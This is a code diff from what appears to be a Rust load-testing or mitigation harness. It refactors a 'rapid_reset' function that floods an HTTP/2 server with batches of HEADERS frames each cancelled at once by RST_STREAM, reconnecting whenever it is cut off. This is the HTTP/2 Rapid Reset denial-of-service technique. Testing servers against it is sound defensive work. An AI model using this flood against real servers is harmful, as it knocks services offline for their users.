@@ -95,7 +95,6 @@ async fn legit_load_here(to: SocketAddr, dur: Duration) -> (f64, u64) {
 /// Rapid Reset from `from` until `stop` is set: reconnects whenever cut.
 async fn rapid_reset(from: IpAddr, to: SocketAddr, stop: Arc<AtomicBool>) -> u64 {
     let authority = to.to_string();
-    let block = hpack_request(false, &authority, true);
     let mut connections = 0;
     while !stop.load(Ordering::Relaxed) {
         connections += 1;
@@ -104,17 +103,8 @@ async fn rapid_reset(from: IpAddr, to: SocketAddr, stop: Arc<AtomicBool>) -> u64
         };
         let mut id = 1u32;
         while !stop.load(Ordering::Relaxed) {
-            let mut out = Vec::with_capacity(50 * 40);
-            for _ in 0..50 {
-                out.extend(frame(
-                    h2::HEADERS,
-                    h2::END_HEADERS | h2::END_STREAM,
-                    id,
-                    &block,
-                ));
-                out.extend(frame(h2::RST_STREAM, 0, id, &8u32.to_be_bytes()));
-                id += 2;
-            }
+            let out = rapid_reset_batch(id, 50, &authority);
+            id += 100;
             if raw.send(&out).await.is_err() {
                 break;
             }
